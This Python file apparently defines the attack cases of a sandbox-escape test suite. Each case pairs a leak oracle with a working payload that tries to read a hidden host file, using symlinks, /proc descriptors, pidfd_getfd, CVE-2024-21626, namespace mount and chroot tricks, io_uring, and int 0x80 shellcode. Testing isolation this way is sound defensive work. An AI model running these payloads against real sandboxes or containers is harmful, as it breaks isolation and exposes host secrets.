"""Reading a file of the host that the job was not shown."""

from __future__ import annotations

from functools import partial
from typing import Final

from escape.model import Attack
from escape.oracles import leaks, leaks_collected

_attack = partial(Attack, kind="file read", oracle=leaks)
_IN_NAMESPACE: Final = "from a user namespace"

ATTACKS: Final = (
    _attack(
        id="read-open",
        tries="opens the file by its path",
        needs=("secret",),
        payload="say(open(F['secret']).read())",
    ),
    _attack(
        id="read-openat-dirfd",
        tries="opens the folder, then the file beside that descriptor",
        needs=("secret",),
        payload="""
d = os.open(F['folder'], os.O_RDONLY | os.O_DIRECTORY)
say(os.read(os.open('secret', os.O_RDONLY, dir_fd=d), 100))
""",
    ),
    _attack(
        id="read-openat2",
        tries="opens by a call that older filters do not know",
        needs=("secret",),
        payload="""
how = ctypes.create_string_buffer(struct.pack('=QQQ', 0, 0, 0), 24)
say(os.read(sc('openat2', -100, F['secret'].encode(), how, 24), 100))
""",
    ),
    _attack(
        id="read-dot-dot",
        tries="walks up from the working folder, past the root",
        needs=("work", "secret"),
        payload="say(open('../' * 40 + F['secret'][1:]).read())",
    ),
    _attack(
        id="read-beside-workdir",
        tries="opens the sibling of the working folder",
        needs=("work", "secret"),
        payload="say(open('../secret').read())",
    ),
    _attack(
        id="read-symlink",
        tries="follows a symbolic link that it made in its working folder",
        needs=("work", "secret"),
        payload="""
os.symlink(F['secret'], 'link')
say(open('link').read())
""",
    ),
    _attack(
        id="read-hard-link",
        tries="gives the file a second name in its working folder",
        needs=("work", "secret"),
        payload="""
os.link(F['secret'], 'mine')
say(open('mine').read())
""",
    ),
    _attack(
        id="read-rename-in",
        tries="moves the file into its working folder",
        needs=("work", "secret"),
        payload="""
os.rename(F['secret'], 'mine')
say(open('mine').read())
""",
    ),
    _attack(
        id="read-exchange",
        tries="exchanges the file with one of its own in one step",
        needs=("work", "secret"),
        payload="""
open('mine', 'w')
sc('renameat2', -100, F['secret'].encode(), -100, b'mine', 2)
say(open('mine').read())
""",
    ),
    _attack(
        id="read-chdir",
        tries="changes into the folder and opens a bare name",
        needs=("secret",),
        payload="""
os.chdir(F['folder'])
say(open('secret').read())
""",
    ),
    _attack(
        id="read-path-descriptor",
        tries="opens with O_PATH, which needs no right to read, and again by /proc/self/fd",
        needs=("secret",),
        payload="""
fd = os.open(F['secret'], os.O_PATH)
say(open(f'/proc/self/fd/{fd}').read())
""",
    ),
    _attack(
        id="read-link-descriptor",
        tries="gives a file opened with O_PATH a name in its working folder",
        needs=("work", "secret"),
        payload="""
fd = os.open(F['secret'], os.O_PATH)
checked(libc.linkat(-100, f'/proc/self/fd/{fd}'.encode(), -100, b'mine', 0x400))
say(open('mine').read())
""",
    ),
    _attack(
        id="read-other-program",
        tries="lets a program of the system read the file",
        needs=("secret",),
        profile="shell",
        payload=("cat", "{secret}"),
    ),
    _attack(
        id="read-process-root",
        tries="goes through the root of another process",
        needs=("secret", "decoy"),
        payload="say(open(f\"/proc/{F['decoy']}/root{F['secret']}\").read())",
    ),
    _attack(
        id="read-process-folder",
        tries="goes through the working folder of another process",
        needs=("secret", "decoy"),
        payload="say(open(f\"/proc/{F['decoy']}/cwd/secret\").read())",
    ),
    _attack(
        id="read-process-descriptor",
        tries="opens a nameless file through another process's descriptor",
        needs=("decoy",),
        payload="say(open(f\"/proc/{F['decoy']}/fd/{F['decoy_fd']}\").read())",
    ),
    _attack(
        id="read-stolen-descriptor",
        tries="copies another process's descriptor (pidfd_getfd)",
        needs=("decoy",),
        payload="""
p = sc('pidfd_open', F['decoy'], 0)
say(os.pread(sc('pidfd_getfd', p, F['decoy_fd'], 0), 100, 0))
""",
    ),
    _attack(
        id="read-inherited-descriptor",
        tries="reads a descriptor that the caller forgot to close",
        needs=("inherited_secret",),
        payload="say(os.read(F['fd'], 100))",
    ),
    _attack(
        id="read-inherited-folder",
        tries="opens beside an inherited descriptor of a folder (CVE-2024-21626)",
        needs=("inherited_folder",),
        payload="say(os.read(os.open('secret', os.O_RDONLY, dir_fd=F['fd']), 100))",
    ),
    _attack(
        id="read-inherited-fchdir",
        tries="moves its working folder to an inherited descriptor",
        needs=("inherited_folder",),
        payload="""
os.fchdir(F['fd'])
say(open('./secret').read())
""",
    ),
    _attack(
        id="read-passed-descriptor",
        tries="asks a service of the host for an open file",
        needs=("portal",),
        payload="""
s = socket.socket(socket.AF_UNIX)
s.connect(F['portal'])
say(os.pread(socket.recv_fds(s, 10, 1)[1][0], 100, 0))
""",
    ),
    _attack(
        id="read-bind-mount",
        tries=f"mounts the folder over its own, {_IN_NAMESPACE}",
        needs=("work", "secret"),
        payload="""
userns(NEWNS)
os.mkdir('m')
mount(F['folder'], 'm', flags=4096 | 16384)
say(open('m/secret').read())
""",
    ),
    _attack(
        id="read-open-tree",
        tries=f"clones the mount of the folder without attaching it, {_IN_NAMESPACE}",
        needs=("secret",),
        payload="""
userns(NEWNS)
fd = sc('open_tree', -100, F['folder'].encode(), 1 | 0x8000)
say(os.read(os.open('secret', os.O_RDONLY, dir_fd=fd), 100))
""",
    ),
    _attack(
        id="read-overlay",
        tries=f"mounts the folder as the lower layer of an overlay, {_IN_NAMESPACE}",
        needs=("work", "secret"),
        payload="""
userns(NEWNS)
for n in 'umw': os.mkdir(n)
mount('o', 'm', 'overlay', 0, f"lowerdir={F['folder']},upperdir=u,workdir=w,userxattr")
say(open('m/secret').read())
""",
    ),
    _attack(
        id="read-chroot-escape",
        tries=f"leaves a nested chroot by a descriptor kept from before, {_IN_NAMESPACE}",
        needs=("work", "secret"),
        payload="""
userns()
kept = os.open('.', os.O_RDONLY)
os.mkdir('d')
os.chroot('d')
os.fchdir(kept)
for _ in range(64): os.chdir('..')
os.chroot('.')
say(open(F['secret']).read())
""",
    ),
    _attack(
        id="read-unmount",
        tries=f"takes mounts away in a copy of its namespace to see what they cover, {_IN_NAMESPACE}",
        needs=("secret",),
        payload="""
userns(NEWNS)
os.chdir('/')
for where in (b'/tmp', b'/', b'.'): libc.umount2(where, 2)
say(open(F['secret']).read())
""",
    ),
    _attack(
        id="read-pivot-root",
        tries=f"makes another root its own and looks below the old one, {_IN_NAMESPACE}",
        needs=("work", "secret"),
        payload="""
userns(NEWNS)
os.mkdir('new')
mount('none', '/', flags=16384 | (1 << 18))
mount('t', 'new', 'tmpfs')
os.mkdir('new/old')
sc('pivot_root', b'new', b'new/old')
say(open('/old' + F['secret']).read())
""",
    ),
    _attack(
        id="read-entered-namespace",
        tries="enters the namespaces of another process and reads its private memory file system",
        needs=("jailed_decoy",),
        payload="""
for kind in ('user', 'mnt'): checked(libc.setns(os.open(f"/proc/{F['decoy']}/ns/{kind}", 0), 0))
say(open(F['inner'] + '/secret').read())
""",
    ),
    _attack(
        id="read-io-uring",
        tries="opens and reads by io_uring, which no filter on calls sees",
        needs=("secret",),
        payload="""
r = Ring()
path = ctypes.create_string_buffer(F['secret'].encode())
fd = r.do(18, -100, addr=ctypes.addressof(path))
room = ctypes.create_string_buffer(100)
n = r.do(22, fd, addr=ctypes.addressof(room), length=100)
say(room.raw[:n])
""",
    ),
    _attack(
        id="read-int-0x80",
        tries="opens by the 32-bit table of calls, which a filter for one table does not see",
        needs=("secret",),
        payload="""
low = raw_mmap(8192, 7, 0x62)
ctypes.memmove(low + 4096, F['secret'].encode() + b'\\0', 200)
# push rbx; mov eax, 5; mov ebx, path; xor ecx, ecx; xor edx, edx; int 0x80; pop rbx; ret
words = b'\\x53\\xb8\\x05\\0\\0\\0\\xbb' + struct.pack('=I', low + 4096)
ctypes.memmove(low, words + b'\\x31\\xc9\\x31\\xd2\\xcd\\x80\\x5b\\xc3', 20)
fd = ctypes.CFUNCTYPE(ctypes.c_int)(low)()
say(os.read(fd, 100))
""",
    ),
    _attack(
        id="read-collected-link",
        tries="leaves a link to the file for the caller to take home",
        needs=("work", "secret"),
        collect=("*",),
        oracle=leaks_collected,
        payload="os.symlink(F['secret'], 'result.txt')",
    ),
    _attack(
        id="read-collected-folder",
        tries="leaves a link to the folder, below which the caller takes files home",
        needs=("work", "secret"),
        collect=("results/secret",),
        oracle=leaks_collected,
        payload="os.symlink(F['folder'], 'results')",
    ),
    _attack(
        id="read-collected-hard-link",
        tries="leaves a second name of the file for the caller to take home",
        needs=("work", "secret"),
        collect=("*",),
        oracle=leaks_collected,
        payload="os.link(F['secret'], 'result.txt')",
    ),
    _attack(
        id="read-collected-process-link",
        tries="leaves a link to another process's nameless file for the caller to take home",
        needs=("work", "decoy"),
        collect=("*",),
        oracle=leaks_collected,
        payload="os.symlink(f\"/proc/{F['decoy']}/fd/{F['decoy_fd']}\", 'result.txt')",
    ),
)
